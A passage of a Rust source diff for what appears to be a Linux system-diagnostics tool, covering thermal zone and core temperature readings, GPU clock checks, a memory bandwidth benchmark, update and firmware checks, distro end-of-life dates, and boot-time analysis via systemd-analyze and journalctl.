+    /// Contents of `type`, e.g. `x86_pkg_temp` or `acpitz`
+    name: String,
+    temp_c: f32,
+    passive_c: Option<f32>,
+    critical_c: Option<f32>,
+}
+
+impl ThermalZone {
+    /// Degrees left before the critical trip point
+    fn critical_headroom(&self) -> Option<f32> {
+        self.critical_c.map(|critical| critical - self.temp_c)
+    }
+}
+
+/// Zones sorted by name; sysfs millidegree values outside
+/// `SENSOR_TEMP_RANGE_C` (unset trips may read -273150) are dropped
+fn read_thermal_zones(dir: &Path) -> Vec<ThermalZone> {
+    let read_celsius = |path: PathBuf| {
+        fs::read_to_string(path)
+            .ok()
+            .and_then(|text| text.trim().parse::<f32>().ok())
+            .map(|millidegrees| millidegrees / 1000.0)
+            .filter(|celsius| SENSOR_TEMP_RANGE_C.contains(celsius))
+    };
+    let Ok(entries) = fs::read_dir(dir) else {
+        return Vec::new();
+    };
+    let mut zones: Vec<ThermalZone> = entries
+        .flatten()
+        .filter(|entry| {
+            entry
+                .file_name()
+                .to_string_lossy()
+                .starts_with("thermal_zone")
+        })
+        .filter_map(|entry| {
+            let zone = entry.path();
+            let temp_c = read_celsius(zone.join("temp"))?;
+            let name = fs::read_to_string(zone.join("type"))
+                .map(|text| text.trim().to_string())
+                .unwrap_or_else(|_| entry.file_name().to_string_lossy().to_string());
+            let mut passive_c: Option<f32> = None;
+            let mut critical_c: Option<f32> = None;
+            for trip in 0.. {
+                let Ok(kind) = fs::read_to_string(zone.join(format!("trip_point_{trip}_type")))
+                else {
+                    break;
+                };
+                let Some(celsius) = read_celsius(zone.join(format!("trip_point_{trip}_temp")))
+                else {
+                    continue;
+                };
+                let slot = match kind.trim() {
+                    "passive" => &mut passive_c,
+                    "critical" => &mut critical_c,
+                    _ => continue,
+                };
+                *slot = Some(slot.map_or(celsius, |current| current.min(celsius)));
+            }
+            Some(ThermalZone {
+                name,
+                temp_c,
+                passive_c,
+                critical_c,
+            })
+        })
+        .collect();
+    zones.sort_by(|a, b| a.name.cmp(&b.name));
+    zones
+}
+
+/// Judged against the zone's own trip points, not a generic threshold
+fn thermal_zone_line(zone: &ThermalZone) -> InsightLine {
+    let trip = |value: Option<f32>| value.map_or("—".to_string(), |c| format!("{c:.0}°C"));
+    let reading = t!("hot_zone_line")
+        .replace("{zone}", &zone.name)
+        .replace("{temp}", &format!("{:.1}", zone.temp_c))
+        .replace("{passive}", &trip(zone.passive_c))
+        .replace("{critical}", &trip(zone.critical_c));
+    let (level, note) = match (zone.critical_headroom(), zone.passive_c) {
+        (Some(headroom), _) if headroom <= TRIP_CRITICAL_MARGIN_C => (
+            InsightLevel::Critical,
+            t!("hot_zone_near_critical")
+                .replace("{headroom}", &format!("{:.0}", headroom.max(0.0))),
+        ),
+        (_, Some(passive)) if zone.temp_c >= passive => {
+            (InsightLevel::Warning, t!("hot_zone_throttling").to_string())
+        }
+        (None, None) => (InsightLevel::Info, t!("hot_zone_no_trips").to_string()),
+        _ => (InsightLevel::Good, String::new()),
+    };
+    InsightLine {
+        level,
+        message: if note.is_empty() {
+            reading
+        } else {
+            format!("{reading} — {note}")
+        },
+    }
+}
+
+fn grid_lines(cells: &[String]) -> Vec<InsightLine> {
+    cells
+        .chunks(CORE_GRID_COLUMNS)
+        .map(|row| InsightLine {
+            level: InsightLevel::Info,
+            message: row.join(" │ "),
+        })
+        .collect()
+}
+
+/// Per-core readings from `sensors`: Intel coretemp "Core N" and AMD k10temp "TccdN"
+fn parse_core_temps(sensors: &str) -> Vec<(String, f32)> {
+    lazy_static! {
+        static ref CORE_RE: Regex =
+            Regex::new(r"^(Core \d+|Tccd\d+):\s+([+-]?[0-9]+(?:\.[0-9]+)?)°C").unwrap();
+    }
+    sensors
+        .lines()
+        .filter_map(|line| {
+            let cap = CORE_RE.captures(line.trim())?;
+            let temp = cap[2].parse::<f32>().ok()?;
+            SENSOR_TEMP_RANGE_C
+                .contains(&temp)
+                .then(|| (cap[1].to_string(), temp))
+        })
+        .collect()
+}
+
+/// Hottest minus coolest core; None with fewer than two readings
+fn temperature_spread(temps: &[(String, f32)]) -> Option<f32> {
+    if temps.len() < 2 {
+        return None;
+    }
+    let max = temps.iter().map(|(_, t)| *t).fold(f32::MIN, f32::max);
+    let min = temps.iter().map(|(_, t)| *t).fold(f32::MAX, f32::min);
+    Some(max - min)
+}
+
+/// Current frequency of each logical CPU from cpufreq (kHz in sysfs)
+fn read_core_freqs_mhz() -> Vec<(usize, f32)> {
+    let mut freqs = Vec::new();
+    let Ok(entries) = fs::read_dir("/sys/devices/system/cpu") else {
+        return freqs;
+    };
+    for entry in entries.flatten() {
+        let name = entry.file_name().to_string_lossy().to_string();
+        let Some(index) = name
+            .strip_prefix("cpu")
+            .and_then(|id| id.parse::<usize>().ok())
+        else {
+            continue;
+        };
+        let khz = fs::read_to_string(entry.path().join("cpufreq/scaling_cur_freq"))
+            .ok()
+            .and_then(|text| text.trim().parse::<f32>().ok());
+        if let Some(khz) = khz {
+            freqs.push((index, khz / 1000.0));
+        }
+    }
+    freqs.sort_by_key(|(index, _)| *index);
+    freqs
+}
+
+/// Larger than the last-level cache of most CPUs, so the copy hits RAM
+const MEM_BENCH_BUFFER_BYTES: usize = 64 * 1024 * 1024;
+const MEM_BENCH_PASSES: u32 = 16;
+
+/// Copied bytes per second in GB/s (10^9); None for a zero-length timing
+fn gigabytes_per_second(bytes: u64, elapsed: Duration) -> Option<f64> {
+    let seconds = elapsed.as_secs_f64();
+    (seconds > 0.0).then(|| bytes as f64 / seconds / 1e9)
+}
+
+/// Single-threaded memcpy between two buffers; the first pass only faults
+/// the pages in and is not timed
+fn measure_memcpy_bandwidth() -> (u64, Duration) {
+    let source = vec![0x5au8; MEM_BENCH_BUFFER_BYTES];
+    let mut target = vec![0u8; MEM_BENCH_BUFFER_BYTES];
+    target.copy_from_slice(&source);
+    let start = Instant::now();
+    for _ in 0..MEM_BENCH_PASSES {
+        target.copy_from_slice(std::hint::black_box(&source));
+        std::hint::black_box(&mut target);
+    }
+    let copied = MEM_BENCH_BUFFER_BYTES as u64 * u64::from(MEM_BENCH_PASSES);
+    (copied, start.elapsed())
+}
+
+fn why_mem_bandwidth() {
+    if !capturing_sections() {
+        println!("\n{}", t!("mem_bandwidth_running").to_string().dimmed());
+    }
+    let (copied, elapsed) = measure_memcpy_bandwidth();
+    let result = match gigabytes_per_second(copied, elapsed) {
+        Some(rate) => InsightLine {
+            level: InsightLevel::Good,
+            message: t!("mem_bandwidth_result")
+                .replace("{size}", &format_bytes(copied))
+                .replace("{ms}", &elapsed.as_millis().to_string())
+                .replace("{rate}", &format!("{rate:.1}")),
+        },
+        None => InsightLine {
+            level: InsightLevel::Warning,
+            message: t!("mem_bandwidth_failed").to_string(),
+        },
+    };
+    let note = InsightLine {
+        level: InsightLevel::Info,
+        message: t!("mem_bandwidth_note").to_string(),
+    };
+    print_section(&t!("mem_bandwidth_header"), Ok(vec![result, note]));
+}
+
+fn why_update() -> Result<()> {
+    let mut lines = Vec::new();
+    if let Some(release) = read_os_release() {
+        let today = Utc::now().date_naive();
+        let label = release.pretty_name.clone().unwrap_or_else(whoami::distro);
+        lines.push(match release_eol_date(&release, &config::config().eol) {
+            Some(date) if date < today => InsightLine {
+                level: InsightLevel::Warning,
+                message: t!("update_distro_eol")
+                    .replace("{distro}", &label)
+                    .replace("{date}", &date.to_string()),
+            },
+            Some(date) => InsightLine {
+                level: InsightLevel::Good,
+                message: t!("update_distro_supported")
+                    .replace("{distro}", &label)
+                    .replace("{date}", &date.to_string()),
+            },
+            None => InsightLine {
+                level: InsightLevel::Info,
+                message: format!("{} {}", t!("update_distro_label"), label),
+            },
+        });
+    }
+    lines.push(InsightLine {
+        level: InsightLevel::Info,
+        message: match check_updates() {
+            Some(count) => t!("update_pending").replace("{count}", &count.to_string()),
+            None => t!("update_unknown").to_string(),
+        },
+    });
+    print_section(&t!("update_header"), Ok(lines));
+
+    // Skipped silently without fwupd
+    if let Some(devices) = read_firmware_updates() {
+        let firmware_header = t!("update_firmware_header").to_string();
+        let section = if devices.is_empty() {
+            Ok(vec![InsightLine {
+                level: InsightLevel::Good,
+                message: t!("update_firmware_none").to_string(),
+            }])
+        } else {
+            Ok(firmware_update_lines(&devices))
+        };
+        print_section(&firmware_header, section);
+    }
+    Ok(())
+}
+
+#[derive(Clone, Debug, PartialEq)]
+struct FirmwareUpdate {
+    device: String,
+    current: Option<String>,
+    available: Option<String>,
+}
+
+impl FirmwareUpdate {
+    fn is_system_firmware(&self) -> bool {
+        let name = self.device.to_ascii_lowercase();
+        name.contains("system firmware") || name.contains("uefi") || name.contains("bios")
+    }
+
+    fn is_storage(&self) -> bool {
+        let name = self.device.to_ascii_lowercase();
+        name.contains("nvme") || name.contains("ssd")
+    }
+}
+
+fn read_firmware_updates() -> Option<Vec<FirmwareUpdate>> {
+    FIRMWARE_CACHE.get_or_init(query_firmware_updates).clone()
+}
+
+fn query_firmware_updates() -> Option<Vec<FirmwareUpdate>> {
+    if !is_command_available("fwupdmgr") {
+        return None;
+    }
+    // Exit status is non-zero when nothing is updatable, so only stdout matters
+    let output = output_with_timeout(
+        Command::new("fwupdmgr")
+            .args([
+                "get-updates",
+                "--json",
+                "--no-unreported-check",
+                "--no-metadata-check",
+            ])
+            .env("LC_ALL", "C"),
+        SLOW_COMMAND_TIMEOUT,
+    )
+    .ok()?;
+    parse_fwupd_updates(&String::from_utf8_lossy(&output.stdout))
+}
+
+/// Devices with at least one pending release from `fwupdmgr get-updates --json`
+fn parse_fwupd_updates(json: &str) -> Option<Vec<FirmwareUpdate>> {
+    if json.trim().is_empty() {
+        return Some(Vec::new());
+    }
+    let value: serde_json::Value = serde_json::from_str(json).ok()?;
+    let devices = value.get("Devices").and_then(|d| d.as_array())?;
+    Some(
+        devices
+            .iter()
+            .filter_map(|device| {
+                let releases = device.get("Releases").and_then(|r| r.as_array())?;
+                let latest = releases.first()?;
+                let text = |v: &serde_json::Value, key: &str| {
+                    v.get(key).and_then(|s| s.as_str()).map(str::to_string)
+                };
+                Some(FirmwareUpdate {
+                    device: text(device, "Name").unwrap_or_else(|| "?".into()),
+                    current: text(device, "Version"),
+                    available: text(latest, "Version"),
+                })
+            })
+            .collect(),
+    )
+}
+
+fn firmware_update_lines(devices: &[FirmwareUpdate]) -> Vec<InsightLine> {
+    let mut lines = Vec::new();
+    for update in devices {
+        lines.push(InsightLine {
+            level: InsightLevel::Info,
+            message: format!(
+                "{}: {} → {}",
+                update.device,
+                update.current.as_deref().unwrap_or("?"),
+                update.available.as_deref().unwrap_or("?")
+            ),
+        });
+        if update.is_system_firmware() {
+            lines.push(InsightLine {
+                level: InsightLevel::Info,
+                message: t!("update_firmware_bios_note").to_string(),
+            });
+        } else if update.is_storage() {
+            lines.push(InsightLine {
+                level: InsightLevel::Info,
+                message: t!("update_firmware_ssd_note").to_string(),
+            });
+        }
+    }
+    lines.push(InsightLine {
+        level: InsightLevel::Info,
+        message: t!("update_firmware_tip").to_string(),
+    });
+    lines
+}
+
+fn check_updates() -> Option<u32> {
+    let patterns = [
+        ("apt", vec!["-s", "upgrade"]),
+        ("dnf", vec!["check-update"]),
+        ("pacman", vec!["-Qu"]),
+    ];
+    for (cmd, args) in patterns {
+        let output = match output_with_timeout(Command::new(cmd).args(&args), SLOW_COMMAND_TIMEOUT)
+        {
+            Ok(output) => output,
+            Err(_) => continue,
+        };
+        if !output.status.success() {
+            continue;
+        }
+        let count = String::from_utf8_lossy(&output.stdout)
+            .lines()
+            .filter(|line| !line.trim().is_empty() && !line.starts_with("Listing"))
+            .count();
+        if count > 0 {
+            return Some(count as u32);
+        }
+    }
+    None
+}
+
+#[derive(Debug, Default, PartialEq)]
+struct OsRelease {
+    id: String,
+    version_id: Option<String>,
+    pretty_name: Option<String>,
+}
+
+/// Bundled end-of-life dates (ID, VERSION_ID, last day of standard support).
+/// Users can add or override entries with `[[eol]]` in the config file.
+const DISTRO_EOL: &[(&str, &str, &str)] = &[
+    ("ubuntu", "18.04", "2023-05-31"),
+    ("ubuntu", "20.04", "2025-05-31"),
+    ("ubuntu", "22.04", "2027-04-30"),
+    ("ubuntu", "23.10", "2024-07-11"),
+    ("ubuntu", "24.04", "2029-04-30"),
+    ("ubuntu", "24.10", "2025-07-10"),
+    ("ubuntu", "25.04", "2026-01-15"),
+    ("debian", "9", "2022-06-30"),
+    ("debian", "10", "2024-06-30"),
+    ("debian", "11", "2026-08-31"),
+    ("debian", "12", "2028-06-30"),
+    ("fedora", "38", "2024-05-21"),
+    ("fedora", "39", "2024-11-26"),
+    ("fedora", "40", "2025-05-13"),
+    ("fedora", "41", "2025-12-15"),
+    ("centos", "7", "2024-06-30"),
+    ("centos", "8", "2021-12-31"),
+    ("opensuse-leap", "15.4", "2023-12-07"),
+    ("opensuse-leap", "15.5", "2024-12-31"),
+    ("opensuse-leap", "15.6", "2025-12-31"),
+];
+
+fn read_os_release() -> Option<OsRelease> {
+    ["/etc/os-release", "/usr/lib/os-release"]
+        .iter()
+        .find_map(|path| fs::read_to_string(path).ok())
+        .map(|text| parse_os_release(&text))
+        .filter(|release| !release.id.is_empty())
+}
+
+fn parse_os_release(text: &str) -> OsRelease {
+    let mut release = OsRelease::default();
+    for line in text.lines() {
+        let Some((key, value)) = line.trim().split_once('=') else {
+            continue;
+        };
+        let value = value
+            .trim()
+            .trim_matches('"')
+            .trim_matches('\'')
+            .to_string();
+        match key {
+            "ID" => release.id = value.to_ascii_lowercase(),
+            "VERSION_ID" => release.version_id = Some(value),
+            "PRETTY_NAME" => release.pretty_name = Some(value),
+            _ => {}
+        }
+    }
+    release
+}
+
+fn release_eol_date(release: &OsRelease, extra: &[config::EolEntry]) -> Option<NaiveDate> {
+    let version = release.version_id.as_deref()?;
+    let from_config = extra
+        .iter()
+        .find(|entry| entry.id.eq_ignore_ascii_case(&release.id) && entry.version == version)
+        .map(|entry| entry.eol.as_str());
+    let date = from_config.or_else(|| {
+        DISTRO_EOL
+            .iter()
+            .find(|(id, ver, _)| *id == release.id && *ver == version)
+            .map(|(_, _, date)| *date)
+    })?;
+    NaiveDate::parse_from_str(date, "%Y-%m-%d").ok()
+}
+
+fn why_boot() -> Result<()> {
+    let output = output_with_timeout(
+        Command::new("systemd-analyze").arg("blame"),
+        command_timeout(),
+    );
+    let section = match output {
+        Ok(data) if data.status.success() => Ok(String::from_utf8_lossy(&data.stdout)
+            .lines()
+            .take(10)
+            .map(|line| InsightLine {
+                level: InsightLevel::Info,
+                message: line.trim().to_string(),
+            })
+            .collect()),
+        _ => Err(t!("boot_unknown").to_string()),
+    };
+    print_section(&t!("boot_header"), section);
+    Ok(())
+}
+
+const BOOT_PREVIOUS_LINE_LIMIT: usize = 25;
+
+fn why_boot_previous() -> Result<()> {
+    print_header(&t!("boot_previous_header"));
+    let warnings_header = t!("boot_previous_warnings_header").to_string();
+    if !is_command_available("journalctl") {
+        let missing = t!("boot_previous_journal_missing").to_string();
+        print_section(&warnings_header, Err(missing));
+        return Ok(());
+    }
+
+    // `journalctl -b -1` needs a persistent journal with at least two boots
+    let boots = run_cmd_c_locale("journalctl", &["--list-boots", "--no-pager"])
+        .map(|text| text.lines().filter(|line| !line.trim().is_empty()).count())
+        .unwrap_or(0);
+    if boots < 2 {
+        let single = t!("boot_previous_single_boot").to_string();
+        print_section(&warnings_header, Err(single));
+        return Ok(());
+    }
+
+    let section = match run_cmd_c_locale(
+        "journalctl",
+        &["-b", "-1", "-p", "warning", "--no-pager", "-o", "short"],
+    ) {
+        Some(text) => {
+            let lines = extract_boot_warnings(&text, BOOT_PREVIOUS_LINE_LIMIT);
+            if lines.is_empty() {
+                Err(t!("boot_previous_clean").to_string())
+            } else {
+                Ok(lines)
+            }
+        }
+        None => Err(t!("boot_previous_unavailable").to_string()),
+    };
+    print_section(&warnings_header, section);
+    Ok(())
+}
+
+/// Turn `journalctl -b -1 -p warning` output into insight lines, most recent last.
+/// Unit failures, timeouts and errors are highlighted as critical.
+fn extract_boot_warnings(text: &str, limit: usize) -> Vec<InsightLine> {
+    const FAILURE_MARKERS: &[&str] = &[
+        "failed",
+        "timed out",
+        "dependency failed",
+        "error",
+        "emergency mode",
+    ];
+    let lines: Vec<InsightLine> = text
+        .lines()
+        .map(str::trim)
+        .filter(|line| !line.is_empty() && !line.starts_with("-- "))
+        .map(|line| {
+            let lower = line.to_ascii_lowercase();
+            InsightLine {
+                level: if FAILURE_MARKERS.iter().any(|marker| lower.contains(marker)) {
+                    InsightLevel::Critical
+                } else {
+                    InsightLevel::Warning
+                },
+                message: truncate(line, 140),
+            }
+        })
+        .collect();
+    let skip = lines.len().saturating_sub(limit);
+    lines.into_iter().skip(skip).collect()
+}
+
+fn why_boot_critical(config: &config::Config) -> Result<()> {
+    let limits = &config.thresholds;
+    print_header(&t!("boot_critical_header"));
+    let blame_header = t!("boot_critical_blame_header").to_string();
+    if !is_command_available("systemd-analyze") {
+        print_section(&blame_header, Err(t!("boot_unknown").to_string()));
+        return Ok(());
+    }
+
+    let blame_entries = collect_systemd_blame().unwrap_or_default();
+    let mut flagged = false;
+    let mut blame_lines: Vec<InsightLine> = blame_entries
+        .iter()
+        .take(10)
+        .map(|entry| {
+            let level = if entry.seconds >= limits.boot_service_critical_s {
+                InsightLevel::Critical
+            } else if entry.seconds >= limits.boot_service_warning_s {
+                InsightLevel::Warning
+            } else {
+                InsightLevel::Info
+            };
+            if matches!(level, InsightLevel::Warning | InsightLevel::Critical) {
+                flagged = true;
+            }
+            InsightLine {
+                level,
+                message: format!("{:>8} {}", format!("{:.2}s", entry.seconds), entry.unit),
+            }
+        })
+        .collect();
+    if !flagged {
+        blame_lines.push(InsightLine {
+            level: InsightLevel::Good,
+            message: t!("boot_critical_no_slow_services").replace(
+                "{threshold}",
+                &format!("{:.1}", limits.boot_service_warning_s),
+            ),
+        });
+    }
+    print_section(&blame_header, Ok(blame_lines));
+
+    let chain_output = output_with_timeout(
+        Command::new("systemd-analyze").args(["critical-chain", "--no-pager"]),
+        command_timeout(),
+    );
+    let chain = match chain_output {
+        Ok(out) if out.status.success() => Ok(String::from_utf8_lossy(&out.stdout)
+            .lines()
+            .take(20)
+            .map(|line| InsightLine {
+                level: InsightLevel::Info,
+                message: line.to_string(),
+            })
+            .collect()),
+        _ => Err(t!("boot_critical_chain_missing").to_string()),
+    };
+    print_section(&t!("boot_critical_chain_header"), chain);
+    Ok(())
+}
+
+#[derive(Debug)]
+struct BootService {
+    unit: String,
+    seconds: f32,
+}
+
+fn collect_systemd_blame() -> Option<Vec<BootService>> {
+    let output = output_with_timeout(
+        Command::new("systemd-analyze").args(["blame", "--no-pager"]),
+        command_timeout(),
+    )
+    .ok()?;
+    if !output.status.success() {
+        return None;
+    }
+    let mut entries = Vec::new();
+    let text = String::from_utf8_lossy(&output.stdout);
+    for line in text.lines() {
+        let trimmed = line.trim();
+        if trimmed.is_empty() {
+            continue;
+        }
+        let tokens: Vec<&str> = trimmed.split_whitespace().collect();
+        if tokens.len() < 2 {
+            continue;
+        }
+        let mut seconds = 0.0;
+        let mut consumed = 0;
+        for token in &tokens {
+            if let Some(value) = parse_systemd_duration_token(token) {
+                seconds += value;
+                consumed += 1;
+            } else {
+                break;
+            }
+        }
+        if consumed == 0 || consumed >= tokens.len() {
+            continue;
+        }
+        let unit = tokens[consumed..].join(" ");
+        entries.push(BootService { unit, seconds });
+    }
+    entries.sort_by(|a, b| b.seconds.partial_cmp(&a.seconds).unwrap_or(Ordering::Equal));
+    Some(entries)
+}
+
+fn parse_systemd_duration_token(token: &str) -> Option<f32> {
+    if let Some(value) = token.strip_suffix("ms") {
+        return value.trim().parse::<f32>().ok().map(|ms| ms / 1_000.0);
+    }
+    if let Some(value) = token.strip_suffix("us") {
+        return value.trim().parse::<f32>().ok().map(|us| us / 1_000_000.0);
+    }
+    if let Some(value) = token.strip_suffix("s") {
+        return value.trim().parse::<f32>().ok();
+    }
+    if let Some(value) = token.strip_suffix("min") {
+        return value.trim().parse::<f32>().ok().map(|min| min * 60.0);
+    }
+    None
+}
+
+fn why_gpu_vulkan(metrics: &Metrics) -> Result<()> {
+    print_header(&t!("gpu_vulkan_header"));
+    let icd_header = t!("gpu_vulkan_icd_header").to_string();
+    if metrics.vulkan_loader_missing == Some(true) {
+        print_section(&icd_header, Err(t!("gpu_vulkan_missing").to_string()));
+        return Ok(());
+    }
+
+    let icds = vulkan_icd_manifests();
+    let icd_section = if icds.is_empty() {
+        Err(t!("gpu_vulkan_no_icds").to_string())
+    } else {
+        Ok(icds
+            .into_iter()
+            .map(|name| InsightLine {
+                level: InsightLevel::Info,
+                message: name,
+            })
+            .collect())
+    };
+    print_section(&icd_header, icd_section);
+
+    let devices_header = t!("gpu_vulkan_devices_header").to_string();
+    let Some(devices) = read_vulkan_devices() else {
+        print_section(&devices_header, Err(t!("gpu_vulkan_failed").to_string()));
+        return Ok(());
+    };
+    print_section(&devices_header, Ok(vulkan_device_insights(&devices)));
+    Ok(())
+}
+
+/// Load at which a GPU should be boosting rather than idling at low clocks
+const GPU_UNDERCLOCK_BUSY_PERCENT: f32 = 50.0;
+/// Busy core clock below this share of the max counts as pinned low
+const GPU_UNDERCLOCK_RATIO: f32 = 0.6;
+
+/// Current and max clocks of one GPU, in MHz
+#[derive(Clone, Debug, PartialEq)]
+struct GpuClocks {
+    gpu: String,
+    utilization: Option<f32>,
+    core_mhz: f32,
+    core_max_mhz: f32,
+    mem_mhz: Option<f32>,
+    mem_max_mhz: Option<f32>,
+    /// Board power draw in watts
+    power_w: Option<f32>,
+}
+
+impl GpuClocks {
+    /// Idle GPUs legitimately drop their clocks, so this needs the load
+    fn underclocked(&self) -> Option<bool> {
+        let utilization = self.utilization?;
+        if utilization < GPU_UNDERCLOCK_BUSY_PERCENT || self.core_max_mhz <= 0.0 {
+            return Some(false);
+        }
+        Some(self.core_mhz < self.core_max_mhz * GPU_UNDERCLOCK_RATIO)
+    }
+}
+
+fn any_gpu_underclocked(clocks: &[GpuClocks]) -> Option<bool> {
+    clocks
+        .iter()
+        .filter_map(GpuClocks::underclocked)
+        .reduce(|any, underclocked| any || underclocked)
+}
+
+fn read_gpu_clocks() -> Vec<GpuClocks> {
+    gpu_clocks(query_nvidia().as_ref())
+}
+
+/// NVIDIA GPUs from the nvidia-smi query, then AMD GPUs from sysfs DPM tables
+fn gpu_clocks(nvidia: Option<&NvidiaQuery>) -> Vec<GpuClocks> {
+    let mut clocks = nvidia
+        .map(|nvidia| parse_nvidia_clocks(nvidia.rows()))
+        .unwrap_or_default();
+    clocks.extend(read_amd_clocks(Path::new("/sys/class/drm")));
+    clocks
+}
+
+/// Clocks and power from `NVIDIA_QUERY_FIELDS` rows; `[N/A]` values read as
+/// None
+fn parse_nvidia_clocks(csv: &str) -> Vec<GpuClocks> {
+    csv.lines()
+        .filter_map(|line| {
+            let parts: Vec<&str> = line.split(',').map(str::trim).collect();
+            let number = |idx: usize| parts.get(idx).and_then(|value| value.parse::<f32>().ok());
+            Some(GpuClocks {
+                gpu: parts.first().filter(|name| !name.is_empty())?.to_string(),
+                utilization: number(3),
+                core_mhz: number(7)?,
+                core_max_mhz: number(8)?,
+                mem_mhz: number(9),
+                mem_max_mhz: number(10),
+                power_w: number(12),
+            })
+        })
+        .collect()
+}
+
+/// `pp_dpm_sclk`/`pp_dpm_mclk` levels (`1: 800Mhz *`): the `*` level and the
+/// highest one
+fn parse_pp_dpm(text: &str) -> Option<(f32, f32)> {
+    let mut current = None;
+    let mut max: Option<f32> = None;
+    for line in text.lines() {
+        let Some((_, level)) = line.split_once(':') else {
+            continue;
+        };
+        let Some(mhz) = level
+            .trim()
+            .trim_end_matches('*')
+            .trim()
+            .to_ascii_lowercase()
+            .strip_suffix("mhz")
+            .and_then(|mhz| mhz.trim().parse::<f32>().ok())
+        else {
+            continue;
+        };
+        if level.trim_end().ends_with('*') {
+            current = Some(mhz);
+        }
+        max = Some(max.map_or(mhz, |max| max.max(mhz)));
+    }
+    Some((current?, max?))
+}
+
+fn read_amd_clocks(drm: &Path) -> Vec<GpuClocks> {
+    let Ok(entries) = fs::read_dir(drm) else {
+        return Vec::new();
+    };
+    let mut cards: Vec<PathBuf> = entries
+        .flatten()
+        .map(|entry| entry.path())
+        .filter(|path| {
+            path.file_name()
+                .and_then(|name| name.to_str())
+                .and_then(|name| name.strip_prefix("card"))
+                .is_some_and(|index| index.chars().all(|c| c.is_ascii_digit()))
+        })
+        .collect();
+    cards.sort();
+    cards
+        .into_iter()
+        .filter_map(|card| {
+            let device = card.join("device");
+            let read = |name: &str| fs::read_to_string(device.join(name)).ok();
+            if read("vendor")?.trim() != "0x1002" {
+                return None;
+            }
+            let (core_mhz, core_max_mhz) = parse_pp_dpm(&read("pp_dpm_sclk")?)?;
+            let mem = read("pp_dpm_mclk").and_then(|text| parse_pp_dpm(&text));
+            Some(GpuClocks {
+                gpu: format!("amd {}", card.file_name()?.to_string_lossy()),
+                utilization: read("gpu_busy_percent").and_then(|text| text.trim().parse().ok()),
+                core_mhz,
+                core_max_mhz,
+                mem_mhz: mem.map(|(current, _)| current),
+                mem_max_mhz: mem.map(|(_, max)| max),
+                power_w: read_hwmon_power(&device),
+            })
+        })
+        .collect()
+}
+
+/// amdgpu's `power1_average` (older kernels) or `power1_input`, in
+/// microwatts, from the device's hwmon directory
+fn read_hwmon_power(device: &Path) -> Option<f32> {
+    let mut hwmons: Vec<PathBuf> = fs::read_dir(device.join("hwmon"))
+        .ok()?
+        .flatten()
+        .map(|entry| entry.path())
+        .collect();
+    hwmons.sort();
+    hwmons.iter().find_map(|hwmon| {
+        ["power1_average", "power1_input"].iter().find_map(|name| {
+            let microwatts: f32 = fs::read_to_string(hwmon.join(name))
+                .ok()?
+                .trim()
+                .parse()
+                .ok()?;
+            Some(microwatts / 1_000_000.0)
+        })
+    })
+}
+
+fn gpu_clock_line(clocks: &GpuClocks) -> InsightLine {
+    let mhz = |current: Option<f32>, max: Option<f32>| match (current, max) {
+        (Some(current), Some(max)) => format!("{current:.0}/{max:.0} MHz"),
+        _ => "n/a".to_string(),
+    };
+    let reading = t!("gpu_clocks_line")
+        .replace("{gpu}", &clocks.gpu)
+        .replace(
+            "{core}",
+            &mhz(Some(clocks.core_mhz), Some(clocks.core_max_mhz)),
+        )
+        .replace("{mem}", &mhz(clocks.mem_mhz, clocks.mem_max_mhz))
+        .replace(
+            "{load}",
+            &clocks
+                .utilization
+                .map_or("n/a".to_string(), |load| format!("{load:.0}%")),
+        );
+    let (level, note) = match clocks.underclocked() {
+        Some(true) => (InsightLevel::Warning, t!("gpu_clocks_pinned_low")),
+        Some(false) if clocks.utilization < Some(GPU_UNDERCLOCK_BUSY_PERCENT) => {
+            (InsightLevel::Info, t!("gpu_clocks_idle"))
+        }
+        Some(false) => (InsightLevel::Good, t!("gpu_clocks_boosting")),
+        None => (InsightLevel::Info, t!("gpu_clocks_load_unknown")),
+    };
+    InsightLine {
+        level,
+        message: format!("{reading} — {note}"),
+    }
+}
+
+fn why_gpu_clocks() -> Result<()> {
+    print_header(&t!("gpu_clocks_header"));
+    let clocks = read_gpu_clocks();
+    let section = if clocks.is_empty() {
+        Err(t!("gpu_clocks_missing").to_string())
+    } else {
+        Ok(clocks.iter().map(gpu_clock_line).collect())
+    };
+    let header = t!("gpu_clocks_section").to_string();
+    print_section(&header, section);
+    Ok(())
+}
+
+/// Same load within this many points: temperatures and clocks are comparable
+const GPU_BASELINE_LOAD_TOLERANCE: f32 = 15.0;
+/// Hotter than the baseline by this much at a comparable load
+const GPU_BASELINE_TEMP_RISE_C: f32 = 5.0;
+/// Core clock below this share of the baseline at a comparable load
+const GPU_BASELINE_CLOCK_RATIO: f32 = 0.9;
+
+/// Current GPU reading in baseline form; clocks come from the first GPU
+/// `read_gpu_clocks` reports
+fn gpu_reading(gpu: &GpuDetails, clocks: Option<&GpuClocks>) -> baseline::GpuBaseline {
+    baseline::GpuBaseline {
+        saved_at: Utc::now().to_rfc3339(),
+        vendor: gpu.vendor.clone(),
+        model: gpu.model.clone(),
+        temperature: gpu.temperature,
+        utilization: gpu.utilization.or(clocks.and_then(|c| c.utilization)),
+        fan_speed_percent: gpu.fan_speed_percent,
+        core_mhz: clocks.map(|c| c.core_mhz),
+        mem_mhz: clocks.and_then(|c| c.mem_mhz),
+        power_w: clocks.and_then(|c| c.power_w),
+    }
+}
+
+/// Current minus baseline for each reading present on both sides
+#[derive(Debug, Default, PartialEq)]
+struct GpuDelta {
+    temperature: Option<f32>,
+    utilization: Option<f32>,
+    fan_speed_percent: Option<f32>,
+    core_mhz: Option<f32>,
+    /// Current core clock as a share of the baseline one
+    core_ratio: Option<f32>,
+    mem_mhz: Option<f32>,
+    power_w: Option<f32>,
+}
+
+fn gpu_delta(baseline: &baseline::GpuBaseline, current: &baseline::GpuBaseline) -> GpuDelta {
+    let diff = |now: Option<f32>, then: Option<f32>| Some(now? - then?);
+    GpuDelta {
+        temperature: diff(current.temperature, baseline.temperature),
+        utilization: diff(current.utilization, baseline.utilization),
+        fan_speed_percent: diff(current.fan_speed_percent, baseline.fan_speed_percent),
+        core_mhz: diff(current.core_mhz, baseline.core_mhz),
+        core_ratio: match (current.core_mhz, baseline.core_mhz) {
+            (Some(now), Some(then)) if then > 0.0 => Some(now / then),
+            _ => None,
+        },
+        mem_mhz: diff(current.mem_mhz, baseline.mem_mhz),
+        power_w: diff(current.power_w, baseline.power_w),
+    }
+}
+
+fn gpu_delta_lines(delta: &GpuDelta) -> Vec<InsightLine> {
+    let signed = |value: Option<f32>, unit: &str| {
+        value.map_or_else(|| "—".to_string(), |v| format!("{v:+.0}{unit}"))
+    };
+    let mut lines = vec![InsightLine {
+        level: InsightLevel::Info,
